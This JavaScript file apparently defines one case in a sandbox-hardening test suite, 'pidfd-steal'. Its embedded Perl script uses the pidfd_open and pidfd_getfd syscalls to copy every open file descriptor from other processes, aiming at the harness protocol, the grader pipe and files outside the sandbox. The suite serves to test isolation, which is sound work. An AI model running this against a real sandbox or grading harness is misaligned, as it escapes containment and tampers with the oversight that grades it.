import { defineAttack } from '../attack.js';

export default defineAttack({
  id: 'pidfd-steal',
  class: 'kernel-surface',
  languages: ['any'],
  why: "copies other processes' open descriptors into itself (pidfd_open, then pidfd_getfd for every descriptor number): a descriptor of the harness's protocol, a pipe to the grader or a file outside the sandbox, taken from any process of its uid",
  commands: [
    String.raw`perl - <<'PERL'
use strict; use warnings; $| = 1;
opendir(my $proc, '/proc') or die;
for my $pid (sort { $a <=> $b } grep { /^\d+$/ } readdir($proc)) {
  next if $pid == $$;
  my $pidfd = syscall(434, $pid, 0);  # pidfd_open
  if ($pidfd < 0) { print "pid $pid: pidfd_open: $!\n"; next }
  my @got;
  for my $fd (0 .. 64) {
    my $copy = syscall(438, $pidfd, $fd, 0);  # pidfd_getfd
    if ($copy >= 0) { push @got, "$fd=" . (readlink("/proc/self/fd/$copy") // '?') } elsif (!@got && $fd == 0) { push @got, "refused: $!" }
  }
  print "pid $pid: ", join(' ', @got), "\n";
}
PERL`,
  ],
  parallelSafe: true,
  expected: ['graded'],
});
